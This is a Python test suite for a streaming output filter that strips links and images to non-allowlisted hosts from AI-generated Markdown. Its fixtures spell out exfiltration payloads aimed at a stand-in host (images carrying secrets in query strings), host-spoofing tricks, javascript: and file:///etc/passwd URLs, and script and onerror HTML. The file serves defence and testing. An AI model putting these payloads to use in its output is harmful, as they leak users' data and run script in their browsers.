"""LinkGuard: links and images to hosts outside the allowlist are neutralised wherever the
stream cuts them, and every other character passes unchanged."""

from __future__ import annotations

import itertools
import random
import re

import pytest

from mamori.guard.output.links import MAX_HOLD, LinkGuard, Removal
from mamori.guard.output.urls import HostPolicy, Reason

ALLOWED = frozenset({"intra.city.example.lg.jp", "例え.jp"})
IMAGE_JA = "〔外部画像を削除しました〕"
HTML_JA = "〔HTMLタグを削除しました〕"
EXFIL = "![グラフ](https://evil.example/x.png?d=SECRET)"
# A URL an attacker chose, still loadable or clickable: scheme or protocol-relative.
LOADABLE = re.compile(r"(?:https?:)?//(?:[^/\s]*@)?evil\.example", re.IGNORECASE)
# Markdown or HTML that would load or link it (a bare URL without a query may stay as text).
POINTS_TO_EVIL = re.compile(
    r"\]\([^)]*evil\.example|\]:\s*\S*evil\.example|<[^>]*evil\.example", re.IGNORECASE
)


def run(text: str, cuts: list[int] | None = None, locale: str = "ja") -> tuple[str, LinkGuard]:
    guard = LinkGuard(ALLOWED, locale)
    bounds = [0, *(cuts or []), len(text)]
    out = [guard.feed(text[a:b]) for a, b in itertools.pairwise(bounds)]
    out.append(guard.flush())
    return "".join(out), guard


def random_cuts(text: str, rng: random.Random) -> list[int]:
    return sorted(rng.sample(range(1, len(text)), k=min(len(text) - 1, rng.randint(1, 40))))


# --- the exfiltration image, cut everywhere -----------------------------------------------------

SENTENCE = f"集計結果は次のとおりです。{EXFIL}ご確認ください。"


@pytest.mark.parametrize("cut", range(1, len(SENTENCE)))
def test_the_image_is_removed_wherever_the_stream_cuts_it(cut: int) -> None:
    out, guard = run(SENTENCE, [cut])
    assert out == f"集計結果は次のとおりです。{IMAGE_JA}ご確認ください。"
    assert guard.removed == [Removal("image", "evil.example", Reason.HOST)]


def test_the_image_is_removed_when_every_character_is_its_own_delta() -> None:
    out, _ = run(SENTENCE, list(range(1, len(SENTENCE))))
    assert out == f"集計結果は次のとおりです。{IMAGE_JA}ご確認ください。"


def test_english_readers_get_the_english_marker() -> None:
    out, _ = run(f"Here: {EXFIL}.", locale="en-GB")
    assert out == "Here: 〔external image removed〕."


# --- what passes unchanged --------------------------------------------------------------------

PLAIN = """\
## 令和6年度の予算について

住民税の均等割は年額5,000円です[1]。詳細は総務省の資料[2]を参照してください！
比較: a < b かつ c > d、配列 `xs[0]` と `arr[i](j)` は関数呼び出しの例です。
公式サイト https://www.soumu.go.jp/main_sosiki/ にも説明があります（which, how, new）。
社内の [手続き案内](https://intra.city.example.lg.jp/guide?id=12) と
![庁舎地図](https://map.intra.city.example.lg.jp/honcho.png) も見てください。<br>

```python
def total(xs: list[int]) -> int:
    return sum(xs[1:])  # [注] 先頭は除く
```

| 区分 | 金額 |
|---|---|
| 均等割 | 5,000円 |

> **注意**: [1] は令和6年度、[2] は[総務省](https://intra.city.example.lg.jp/soumu)経由です。
脚注 [^1] と ![ではない] と ] や [ の単独、 <details> も、そのままです。
"""


def test_text_without_foreign_links_passes_byte_for_byte_under_random_cuts() -> None:
    rng = random.Random(5)
    for _ in range(300):
        out, guard = run(PLAIN, random_cuts(PLAIN, rng))
        assert out == PLAIN
        assert guard.removed == []


def test_a_delta_with_nothing_link_like_is_returned_as_is() -> None:
    guard = LinkGuard(ALLOWED)
    text = "東京都の人口は約1400万人です。"
    assert guard.feed(text) is text
    assert guard.holding == 0


def test_only_what_may_still_become_a_link_is_held() -> None:
    guard = LinkGuard(ALLOWED)
    assert guard.feed("次の資料 [1") == "次の資料 "
    assert guard.feed("] を") == "[1] を"
    assert guard.feed(" which") == " whic"  # "h" may begin "http://"
    assert guard.feed("!") == "h"
    assert guard.flush() == "!"


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://intra.city.example.lg.jp/a.png?d=1)",
        "![x](https://INTRA.City.Example.LG.JP./a.png)",
        "![x](https://www.intra.city.example.lg.jp:8443/a.png)",
        '[x](https://intra.city.example.lg.jp/a?b=1 "題")',
        '<img src="https://intra.city.example.lg.jp/a.png" alt="図">',
        "<https://intra.city.example.lg.jp/?q=1>",
        "https://intra.city.example.lg.jp/search?q=予算",
        "[相対](/docs/guide) と [節](#budget)",
        "![例](https://xn--r8jz45g.jp/a.png) ![例](https://例え.jp/b.png)",
        "[ref]: https://intra.city.example.lg.jp/x.png\n\n![a][ref]",
    ],
)
def test_allowlisted_and_harmless_urls_pass_unchanged(text: str) -> None:
    out, guard = run(text)
    assert out == text
    assert guard.removed == []


@pytest.mark.parametrize(
    "host",
    [
        "evilintra.city.example.lg.jp",  # not a subdomain, only a suffix
        "intra.city.example.lg.jp.evil.example",
        "intra.city.example.lg.jp%2eevil.example",
    ],
)
def test_lookalike_hosts_are_not_allowed(host: str) -> None:
    out, guard = run(f"![x](https://{host}/a.png)")
    assert out == IMAGE_JA
    assert guard.removed[0].kind == "image"


# --- links, schemes, tricks ---------------------------------------------------------------------


def test_a_link_keeps_its_text_and_names_only_the_host() -> None:
    out, guard = run("詳しくは[こちら](https://evil.example/p?d=住所と氏名)へ。")
    assert out == "詳しくはこちら〔外部リンク「evil.example」を削除しました〕へ。"
    assert guard.removed == [Removal("link", "evil.example", Reason.HOST)]


@pytest.mark.parametrize(
    "url",
    [
        "https://intra.city.example.lg.jp@evil.example/x.png",  # userinfo is not the host
        "https://intra.city.example.lg.jp:pw@evil.example/x.png",
        "https://intra.city.example.lg.jp&#64;evil.example/x.png",  # entity for "@"
        "https://intra.city.example.lg.jp\\@evil.example/x.png",  # Markdown unescapes "\@"
        "//evil.example/x.png",  # protocol-relative
        "https:evil.example/x.png",  # browsers add the slashes
        "HTTPS://EVIL.EXAMPLE/x.png",
        "<https://evil.example/x.png>",
        'https://evil.example/x.png "title"',
        "\nhttps://evil.example/x.png\n",
    ],
)
def test_host_tricks_do_not_get_an_image_through(url: str) -> None:
    out, guard = run(f"前![図]({url})後")
    assert out == f"前{IMAGE_JA}後"
    assert guard.removed[0].kind == "image"


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(document.cookie)",
        "JaVaScRiPt:alert(1)",
        "javascript\\:alert(1)",
        "&#106;avascript:alert(1)",
        "java&#9;script:alert(1)",  # the browser drops the tab
        "<javascript:alert(1)>",
        "data:text/html;base64,PHNjcmlwdD4=",
        "vbscript:msgbox(1)",
        "file:///etc/passwd",
        "mailto:a@evil.example?body=secret",
    ],
)
def test_other_schemes_are_always_removed(url: str) -> None:
    out, guard = run(f"[押してください]({url})")
    assert out == "押してください〔リンクを削除しました〕"
    assert guard.removed == [Removal("link", "", Reason.SCHEME)]
    out, _ = run(f"![x]({url})")
    assert out == IMAGE_JA


def test_a_data_url_image_is_removed_even_on_an_empty_allowlist_entry() -> None:
    out, _ = run("![x](data:image/png;base64,iVBORw0KGgo=)")
    assert out == IMAGE_JA


def test_a_relative_image_is_removed_a_relative_link_is_not() -> None:
    assert run("![x](/api/leak?d=1)")[0] == IMAGE_JA
    assert run("[x](/help)")[0] == "[x](/help)"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ('<img src="https://evil.example/a.png?d=1">', IMAGE_JA),
        ("<IMG SRC=https://evil.example/a.png?d=1 alt=x>", IMAGE_JA),
        ("<img/src='//evil.example/a.png'>", IMAGE_JA),
        ('<img\n  alt="図"\n  src="https://evil.example/a.png">', IMAGE_JA),
        ('<img src="a.png" srcset="x.png 1x, https://evil.example/b.png 2x">', IMAGE_JA),
        ('<video poster="https://evil.example/p.png"></video>', f"{IMAGE_JA}</video>"),
        ('<div style="background:url(https://evil.example/b)">x</div>', f"{IMAGE_JA}x</div>"),
        ('<img src="https://intra.city.example.lg.jp/a.png" onerror="x()">', HTML_JA),
        ("<script>alert(1)</script>", f"{HTML_JA}alert(1)"),
        (
            '<a href="https://evil.example/?d=1">ここ</a>',
            "〔外部リンク「evil.example」を削除しました〕ここ</a>",
        ),
    ],
)
def test_raw_html_is_judged_by_what_it_loads(text: str, expected: str) -> None:
    out, _ = run(text)
    assert out == expected
    assert not LOADABLE.search(out)


def test_reference_definitions_to_foreign_hosts_are_removed() -> None:
    text = '下の図を参照。\n\n![図][g]\n\n[g]: https://evil.example/g.png?d=1 "グラフ"\n'
    out, guard = run(text)
    removed = "〔外部リンク「evil.example」を削除しました〕"
    assert out == f'下の図を参照。\n\n![図][g]\n\n{removed} "グラフ"\n'
    assert guard.removed == [Removal("reference", "evil.example", Reason.HOST)]
    for dest in ("<https://evil.example/g.png>", "\n   https://evil.example/g.png"):
        out, _ = run(f"[g]: {dest}\n![a][g]")
        assert not LOADABLE.search(out), out


def test_bare_urls_with_a_query_are_defanged_and_the_text_after_them_kept() -> None:
    out, guard = run("結果はhttps://evil.example/c?d=田中太郎&t=1をご覧ください。")
    assert out == "結果はhxxps://evil.example/…田中太郎&t=1をご覧ください。"
    assert guard.removed == [Removal("url", "evil.example", Reason.HOST)]
    assert run("www.evil.example/?q=secret です")[0] == "hxxp://www.evil.example/… です"
    # Without a query there is nothing to carry: the URL stays readable and clickable.
    assert run("https://evil.example/about です")[0] == "https://evil.example/about です"
    # A trailing "?" is punctuation, not a query (GFM leaves it out of the link).
    assert run("https://evil.example/about?")[0] == "https://evil.example/about?"


def test_autolinks_to_foreign_hosts_are_defanged() -> None:
    out, guard = run("<https://evil.example/x?d=1> と <mailto:a@evil.example>")
    assert out == "hxxps://evil.example/… と 〔リンクを削除しました〕"
    assert [r.kind for r in guard.removed] == ["autolink", "autolink"]


# --- what the markers and the held text must never allow --------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        # The marker must not become link text: "!" before it, "(url)" after it.
        "!![x](https://evil.example/)(https://evil.example/S.png)",
        "[![x](https://evil.example/a.png)](https://evil.example/b)",
        # A code span holding "]": the renderer sees one image, the bracket matcher does not.
        "![a `]` https://intra.city.example.lg.jp/](https://evil.example/S.png)",
        "[a `]` b]: https://evil.example/S.png\n![c][a `]` b]",
        "https://intra.city.example.lg.jp/a](https://evil.example/S.png)",
        "![x](<https://evil.example/a b.png>)",
        "![x](https://evil.example/a.png 'single' )",
        "![x]( https://evil.example/(nested).png )",
    ],
)
def test_no_foreign_url_survives_under_random_cuts(text: str) -> None:
    rng = random.Random(text)
    for _ in range(60):
        out, guard = run(text, random_cuts(text, rng))
        assert not POINTS_TO_EVIL.search(out), out
        assert guard.removed


def test_the_hold_is_bounded_and_text_is_neither_lost_nor_duplicated() -> None:
    text = "[" + "長い括弧の中身。" * 800 + "\n終わり"
    guard = LinkGuard(ALLOWED)
    out = []
    for i in range(0, len(text), 7):
        out.append(guard.feed(text[i : i + 7]))
        assert guard.holding <= MAX_HOLD + 7
    out.append(guard.flush())
    assert "".join(out) == text


def test_an_image_longer_than_the_hold_is_still_removed() -> None:
    text = "![x](https://evil.example/" + "a" * (3 * MAX_HOLD) + ".png)"
    guard = LinkGuard(ALLOWED)
    out = "".join(guard.feed(text[i : i + 5]) for i in range(0, len(text), 5)) + guard.flush()
    assert not LOADABLE.search(out)
    assert guard.removed[0].kind == "image"


def test_a_long_alt_text_cannot_smuggle_an_image_past_the_hold() -> None:
    text = "![" + "説明" * MAX_HOLD + "](https://evil.example/S.png)"
    rng = random.Random(1)
    out, _ = run(text, random_cuts(text, rng))
    assert not LOADABLE.search(out)


def test_an_unfinished_image_at_the_end_is_judged_on_what_arrived() -> None:
    out, guard = run("途中で止まった ![x](https://evil.example/x.png?d=SEC")
    assert out == f"途中で止まった {IMAGE_JA}"
    assert guard.removed[0].kind == "image"


def test_the_policy_matches_subdomains_and_idna_forms() -> None:
    policy = HostPolicy(["City.Example.lg.jp.", "例え.jp", "not a host!"])
    assert policy.allows("city.example.lg.jp")
    assert policy.allows("www.city.example.lg.jp")
    assert not policy.allows("ecity.example.lg.jp")
    assert policy.judge("https://ｗｗｗ.例え．jp/a.png", loads=True).safe
    assert not policy.judge("https://evil.example\\@city.example.lg.jp/", loads=True).safe
    assert not policy.judge("https://city.example.lg.jp", loads=True, complete=False).safe
    assert policy.hosts == frozenset({"city.example.lg.jp", "xn--r8jz45g.jp"})
